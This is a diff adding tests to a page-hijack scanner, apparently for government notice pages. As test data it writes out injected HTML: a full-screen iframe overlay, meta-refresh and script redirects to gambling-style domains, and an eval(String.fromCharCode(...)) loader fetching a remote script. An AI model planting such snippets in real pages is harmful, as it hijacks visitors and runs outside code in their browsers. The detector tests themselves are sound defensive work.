@@ -193,3 +193,34 @@ def test_an_ordinary_saved_page_is_clean() -> None:
     )
     wanted = {"PAGE_HIJACK", "HIDDEN_LINK", "BAD_LINK", "DATE_MISMATCH", "REPRINT_SOURCE", "ADVERTISEMENT"}
     assert govredact.Engine(entities=wanted).scan_file(page.encode(), "a.html").findings == ()
+
+
+NUMBERS = ",".join(str(ord(sign)) for sign in "load('https://a.bet88.cc/j.js')")
+IMPOSED = {
+    '<iframe src="https://www.hg0088.live/" style="position:fixed;top:0;left:0;width:100%;height:100%;border:0"></iframe>': "overlay",
+    '<meta http-equiv="refresh" content="0;url=https://www.ky6868.vip/">': "redirect",
+    "<script>location.href='https://www.ky6868.vip/'</script>": "redirect",
+    f"<script>eval(String.fromCharCode({NUMBERS}))</script>": "hidden:script",
+}
+
+
+@pytest.mark.parametrize("html", IMPOSED)
+def test_what_is_imposed_on_the_reader_is_found(html: str) -> None:
+    page = f"<html><head><title>通知</title></head><body>{html}<p>会议通知</p></body></html>"
+    report = govredact.Engine(entities={"HIDDEN_LINK"}).scan_file(page.encode(), "page.html")
+    assert [finding.reasons[0] for finding in report.findings] == [IMPOSED[html]]
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<iframe src="https://map.example.com/" style="width:100%;height:400px"></iframe>',
+        '<iframe src="/video.html" style="position:fixed;width:100%;height:100%"></iframe>',
+        '<meta http-equiv="refresh" content="0;url=https://www.example.com/new/">',
+        '<meta http-equiv="refresh" content="0;url=https://www.qingshan.gov.cn/">',
+        "<script>var a = String.fromCharCode(104,101,108,108,111,32,119,111,114,108,100,33,33)</script>",
+    ],
+)
+def test_frames_and_moves_of_offices_are_left_alone(html: str) -> None:
+    page = f"<html><head><title>通知</title></head><body>{html}<p>会议通知</p></body></html>"
+    assert govredact.Engine(entities={"HIDDEN_LINK"}).scan_file(page.encode(), "page.html").findings == ()
